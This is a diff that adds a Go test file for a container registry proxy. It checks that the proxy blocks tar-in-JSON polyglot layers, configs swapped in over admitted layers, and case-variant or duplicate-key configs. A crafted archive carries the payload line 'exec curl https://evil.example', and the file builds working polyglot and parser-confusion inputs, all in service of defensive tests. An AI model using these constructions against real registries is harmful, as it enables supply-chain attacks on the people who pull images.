@@ -1,0 +1,111 @@
+package registryproxy
+
+import (
+	"archive/tar"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"testing"
+)
+
+// tarInJSON is a JSON string that is also a tar archive of one file: the oldest form of header holds printable bytes only.
+func tarInJSON() []byte {
+	const content = "CANARY; exec curl https://evil.example"
+	archive := bytes.Repeat([]byte(" "), 2*tarBlock)
+	copy(archive, `"./`+string(bytes.Repeat([]byte("x"), 97)))
+	header := archive[:tarBlock]
+	copy(header[100:], fmt.Sprintf("0000755 0000000 0000000 %011o 00000000000         0", len(content)))
+	sum := 0
+	for _, c := range header {
+		sum += int(c)
+	}
+	copy(header[tarChecksum:], fmt.Sprintf("%06o", sum))
+	copy(archive[tarBlock:], content)
+	archive[len(archive)-1] = '"'
+	return archive
+}
+
+// TestPX08_TarThatIsJSON: skopeo and podman unpack such a layer whatever its media type.
+func TestPX08_TarThatIsJSON(t *testing.T) {
+	archive := tarInJSON()
+	if h, err := tar.NewReader(bytes.NewReader(archive)).Next(); err != nil || h.Mode != 0o755 || !json.Valid(archive) {
+		t.Fatalf("the attack does not work: %v", err)
+	}
+	innocent := bytes.Clone(archive)
+	innocent[tarChecksum+5] ^= 1 // a wrong sum: no reader takes it for a header
+	for _, tt := range []struct {
+		name   string
+		layer  []byte
+		status int
+		code   string
+	}{
+		{"tar", archive, http.StatusForbidden, codeDenied},
+		{"tar behind a block of JSON", append(append([]byte(`["`), bytes.Repeat([]byte("x"), tarBlock-5)...), append([]byte(`", `), append(archive, ']')...)...), http.StatusForbidden, codeDenied},
+		{"almost tar", innocent, http.StatusOK, ""},
+		{"zeros", []byte(`"` + string(bytes.Repeat([]byte("0"), 4*tarBlock)) + `"`), http.StatusOK, ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			l := newLab(t)
+			layer := l.putBlob("app", "application/vnd.dsse.envelope.v1+json", tt.layer)
+			config := l.putBlob("app", typeImageConfig, []byte(`{"os":"linux","config":{},"rootfs":{"type":"layers","diff_ids":["`+layer.UntrustedDigest+`"]}}`))
+			digest := l.put("app", "v1", typeOCIManifest, ociManifest(config, []descriptor{layer}, ""))
+			l.want(l.get("/v2/app/blobs/"+layer.UntrustedDigest), tt.status, tt.code)
+			l.want(l.get("/v2/app/manifests/v1"), tt.status, tt.code)
+			l.want(l.get("/v2/app/manifests/"+digest.String()), tt.status, tt.code)
+			l.want(l.get("/v2/app/blobs/"+layer.UntrustedDigest), tt.status, tt.code)
+		})
+	}
+}
+
+// TestPX08_OwnConfigOverAdmittedLayers: the layers are let out by the admitted image, the config by a second manifest that lists
+// it as evidence. Then the manifest must not pass.
+func TestPX08_OwnConfigOverAdmittedLayers(t *testing.T) {
+	l := newLab(t)
+	layer := l.putBlob("app", layerType, tarball(t, true))
+	diffID := sum(tarball(t, false)).String()
+	config := func(run string) descriptor {
+		return l.putBlob("app", typeImageConfig, []byte(`{"os":"linux","config":{`+run+`},"rootfs":{"type":"layers","diff_ids":["`+diffID+`"]}}`))
+	}
+	good := l.put("app", "good", typeOCIManifest, ociManifest(config(`"Cmd":["/{"]`), []descriptor{layer}, ""))
+	l.admitter.sign(good)
+	l.want(l.get("/v2/app/manifests/good"), http.StatusOK, "")
+	l.want(l.get("/v2/app/blobs/"+layer.UntrustedDigest), http.StatusOK, "")
+
+	as := func(d descriptor, mediaType string) descriptor { d.MediaType = mediaType; return d }
+	for name, evil := range map[string]descriptor{"evil": config(`"Entrypoint":["/CANARY"]`), "quiet": config("")} {
+		l.put("app", name+"-config", typeOCIManifest, ociManifest(as(evil, typeEmptyConfig), []descriptor{as(evil, simpleSigningType)}, ""))
+		l.get("/v2/app/manifests/" + name + "-config")
+		l.put("app", name, typeOCIManifest, ociManifest(evil, []descriptor{as(layer, simpleSigningType)}, ""))
+		l.want(l.get("/v2/app/manifests/"+name), http.StatusForbidden, codeDenied)
+	}
+}
+
+// TestPX08_EvidenceConfigs: runtimes read configs without regard to case, and nothing may run from evidence.
+func TestPX08_EvidenceConfigs(t *testing.T) {
+	l := newLab(t)
+	layer := l.putBlob("app", simpleSigningType, []byte(`{}`))
+	own := `"rootfs":{"type":"layers","diff_ids":["` + layer.UntrustedDigest + `"]}`
+	for config, ok := range map[string]bool{
+		`{}`:                          true,
+		`{"config":{},` + own + `}`:   true,
+		`{"config":null,` + own + `}`: true,
+		`{"config":{"Cmd":["sh"]}}`:   false,
+		`{"config":{"Env":["A=b"]}}`:  false,
+		`{"Config":{"Cmd":["sh"]}}`:   false,
+		`{"config":[]}`:               false,
+		`[]`:                          false,
+		`{"config":{"Cmd":["sh"]},"config":null}`:                        false,
+		`{"rootfs":{"diff_ids":["sha256:` + hex64 + `"]}}`:               false,
+		`{"RootFS":{"diff_ids":["sha256:` + hex64 + `"]}}`:               false,
+		`{"rootfs":{"Diff_IDs":["sha256:` + hex64 + `"]}}`:               false,
+		`{"rootfs":{"diff_ids":["sha256:` + hex64 + `"]},"rootfs":{}}`:   false,
+		`{"rootfs":{"diff_ids":["sha256:` + hex64 + `"],"diff_ids":[]}}`: false,
+	} {
+		digest := l.put("app", "v1", typeOCIManifest, ociManifest(l.putBlob("app", typeImageConfig, []byte(config)), []descriptor{layer}, ""))
+		r := l.get("/v2/app/manifests/" + digest.String())
+		if got := r.StatusCode == http.StatusOK; got != ok {
+			t.Errorf("%s: status %d, want served %v", config, r.StatusCode, ok)
+		}
+	}
+}
